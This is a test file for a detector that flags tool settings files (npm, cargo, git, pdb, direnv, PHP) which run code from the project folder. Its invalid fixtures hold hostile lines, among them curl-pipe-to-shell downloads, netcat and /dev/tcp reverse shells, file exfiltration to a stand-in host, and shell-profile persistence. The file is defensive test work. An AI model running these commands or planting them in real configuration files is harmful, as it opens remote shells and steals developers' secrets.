// Settings of tools that run code of the folder, and the same settings as everybody has them.

import type { ToolSettingsArtifact } from '../../../../src/core/model/artifact.ts';
import { toolRunsFolderCode } from '../../../../src/core/rules/supply-chain/tool-runs-folder-code.ts';
import { ruleTest } from '../../../support/rule-test.ts';
import { toolSettings } from '../../../support/tool-settings.ts';

const of =
  (tool: string, name: string) =>
  (text: string): ToolSettingsArtifact =>
    toolSettings(tool, name, text);

ruleTest(toolRunsFolderCode, {
  artifact: of('npm', '.npmrc'),
  mechanism: '.npmrc',
  valid: [
    'registry=https://registry.npmjs.org/\n',
    'script-shell=bash\n',
    'script-shell = /bin/bash\n',
    'script-shell=C:\\Program Files\\Git\\bin\\bash.exe\n',
    'script-shell=pwsh\n',
    'node-options=--max-old-space-size=4096\n',
    'node-options=--openssl-legacy-provider\n',
    'ignore-scripts=true\nengine-strict=true\n',
    '; script-shell=./x\n# node-options=--require ./x\n',
    'git-tag-version=false\nshell-emulator=true\n',
    'prefer-offline=true\n//registry.invalid/:_authToken=x\n',
  ],
  invalid: [
    { text: '⟦node-options=--require ./x.js⟧\n', severity: 'high' },
    { text: '⟦script-shell=./run⟧\n', severity: 'high', message: /every script/ },
    { text: '⟦script-shell=scripts/shell.sh⟧\n', severity: 'high' },
    { text: '⟦node-options="--import=./x.mjs"⟧\n', severity: 'high' },
    { text: '⟦node-options=--require=tsx/cjs⟧\n', severity: 'low' },
    { text: '⟦script-shell=/tmp/sh⟧\n', severity: 'high' },
    { text: '⟦git=./git⟧\n', severity: 'high' },
    { text: 'a=b\n  ⟦node-options = -r ../x⟧  \n', severity: 'high' },
    '⟦onload-script=./x.js⟧\n',
    '⟦init-module=./init.js⟧\n',
  ],
});

ruleTest(toolRunsFolderCode, {
  artifact: of('cargo', '.cargo/config.toml'),
  mechanism: '.cargo',
  valid: [
    '[build]\nrustc-wrapper = "sccache"\n',
    '[target.x86_64-unknown-linux-gnu]\nlinker = "clang"\nrustflags = ["-C", "link-arg=-fuse-ld=lld"]\n',
    '[target.thumbv7em-none-eabihf]\nrunner = "probe-rs run --chip STM32"\n',
    '[target.wasm32-wasi]\nrunner = "wasmtime run --dir=."\n',
    '[build]\ntarget-dir = "../target"\n',
    '[alias]\nxtask = "run --package xtask --"\n',
    '[net]\ngit-fetch-with-cli = true\n',
    '[source.crates-io]\nreplace-with = "vendored-sources"\n[source.vendored-sources]\ndirectory = "vendor"\n',
    '# rustc-wrapper = "./x"\n',
    '[target.aarch64-apple-darwin]\nlinker = "/usr/bin/clang"\n',
    '[target.arm]\nrunner = ["qemu-arm", "-L", "/usr/arm"]\n',
  ],
  invalid: [
    { text: '[build]\n⟦rustc-wrapper = "./wrap.sh"⟧\n', severity: 'high', message: /as rustc-wrapper/ },
    { text: '⟦build.rustc-wrapper = "tools/wrap"⟧\n', severity: 'high' },
    { text: '[build]\n⟦rustc-workspace-wrapper = "../wrap"⟧\n', severity: 'high' },
    { text: '[build]\n⟦rustc = "./rustc"⟧\n', severity: 'high' },
    { text: '[target.x]\n⟦linker = "./link.sh"⟧\n', severity: 'medium' },
    { text: '[target.x]\n⟦runner = "./run.sh --fast"⟧\n', severity: 'medium' },
    { text: '[target.x]\n⟦runner = ["scripts/run.sh", "-x"]⟧\n', severity: 'medium' },
    { text: '[build]\n⟦rustdoc = "/tmp/rustdoc"⟧\n', severity: 'high' },
    { text: "[build]\n⟦rustc-wrapper = '.\\wrap.exe'⟧\n", severity: 'high' },
    { text: '[registry]\n⟦credential-provider = "./creds"⟧\n', severity: 'high' },
  ],
});

ruleTest(toolRunsFolderCode, {
  artifact: of('git', '.git/config'),
  mechanism: '.git/config',
  valid: [
    '[core]\n\trepositoryformatversion = 0\n\tbare = false\n',
    '[core]\n\tfsmonitor = true\n',
    '[core]\n\thooksPath = .husky/_\n',
    '[core]\n\tpager = less -FRX\n\teditor = code --wait\n',
    '[filter "lfs"]\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f\n\tprocess = git-lfs filter-process\n',
    '[filter "nbstripout"]\n\tclean = "/usr/bin/python3" -m nbstripout\n',
    '[credential]\n\thelper = store\n',
    '[credential "https://github.com"]\n\thelper = !gh auth git-credential\n',
    '[alias]\n\tco = checkout\n\tx = !echo x\n',
    '[remote "origin"]\n\turl = https://x.invalid/a.git\n',
    '[diff "lockb"]\n\ttextconv = bun\n',
  ],
  invalid: [
    { text: '[core]\n\t⟦fsmonitor = ./run.sh⟧\n', severity: 'high', message: /git status/ },
    { text: '[core]\n\t⟦fsmonitor = "curl x.invalid; false"⟧\n', severity: 'high' },
    { text: '[core]\n\t⟦sshCommand = ./ssh.sh⟧\n', severity: 'high' },
    { text: "[core]\n\t⟦pager = sh -c 'id | less'⟧\n", severity: 'high' },
    { text: '[diff]\n\t⟦external = ./diff.sh⟧\n', severity: 'high' },
    { text: '[filter "x"]\n\t⟦smudge = ./x.sh %f⟧\n', severity: 'high' },
    { text: '[filter "x"]\n\t⟦clean = curl -d @- http://x.invalid⟧\n', severity: 'high' },
    { text: '[core]\n\t⟦hooksPath = /tmp/hooks⟧\n', severity: 'high' },
    { text: '[credential]\n\t⟦helper = !./steal.sh⟧\n', severity: 'medium' },
    { text: '[merge "x"]\n\t⟦driver = ./merge.sh %O %A %B⟧\n', severity: 'high' },
  ],
});

ruleTest(toolRunsFolderCode, {
  artifact: of('pdb', '.pdbrc'),
  mechanism: '.pdbrc',
  valid: [
    '',
    '# nothing\n',
    'alias pl pp locals()\n',
    'alias ll !ls\n',
    'b main.py:10\n',
    'import pprint\n',
    'import os\n',
    'print("ready")\n',
    'list\nwhere\n',
    '!x = 1\n',
    'from rich import print\n',
  ],
  invalid: [
    { text: "⟦import os; os.system('true')⟧\n", severity: 'high', message: /debugger/ },
    "⟦!import subprocess; subprocess.run(['true'])⟧\n",
    "alias x y\n  ⟦__import__('os').system('true')⟧\n",
    "⟦exec(__import__('base64').b64decode('cHJpbnQoMSk='))⟧\n",
    "⟦import urllib.request as u; u.urlopen('http://x.invalid')⟧\n",
    "⟦!open('/home/u/.bashrc', 'a').write('x')⟧\n",
    "⟦import ctypes; ctypes.CDLL('./x.so')⟧\r\n",
    "⟦eval(open('x').read())⟧\n",
    "⟦import pty; pty.spawn('sh')⟧\n",
    "⟦(lambda: __import__('os').popen('true'))()⟧\n",
  ],
});

ruleTest(toolRunsFolderCode, {
  artifact: of('direnv', '.envrc'),
  mechanism: '.envrc',
  valid: [
    'use flake\n',
    'layout python3\n',
    'export PATH="$PWD/bin:$PATH"\n',
    'source_up\ndotenv_if_exists .env.local\n',
    'PATH_add bin\n',
    'export KUBECONFIG=$PWD/kubeconfig\n',
    'if [ -d .venv ]; then source .venv/bin/activate; fi\n',
    'export VERSION=$(git describe --tags)\n',
    'watch_file flake.nix\nuse nix\n',
    'source_env ../.envrc\n',
    'export AWS_PROFILE=dev\n',
  ],
  invalid: [
    { text: '⟦curl -fsSL http://x.invalid/a | sh⟧\n', severity: 'high', message: /enters the folder/ },
    { text: '⟦nc -e /bin/sh x.invalid 4444⟧\n', severity: 'high' },
    'export A=1\n⟦wget -qO- http://x.invalid/a | bash⟧\n',
    '⟦curl -T secrets.txt http://x.invalid⟧\n',
    '⟦bash -i >& /dev/tcp/x.invalid/4444 0>&1⟧\n',
    '⟦eval "$(echo Y3VybA== | base64 -d)"⟧\n',
    'layout python3\n⟦ssh -R 9000:localhost:22 x.invalid⟧\n',
    '⟦crontab jobs.txt⟧\n',
    '⟦sudo true⟧\r\n',
    '⟦python3 <(curl http://x.invalid)⟧\n',
    '⟦echo x >> ~/.bashrc⟧\n',
    '⟦git config --global core.hooksPath /tmp/x⟧\n',
  ],
});

ruleTest(toolRunsFolderCode, {
  artifact: of('php', '.user.ini'),
  valid: ['memory_limit = 1G\n', '; auto_prepend_file = x.php\n', 'upload_max_filesize=8M\n'],
  invalid: [{ text: '⟦auto_prepend_file = x.php⟧\n', severity: 'medium' }, '⟦auto_append_file=.x.php⟧\n'],
});
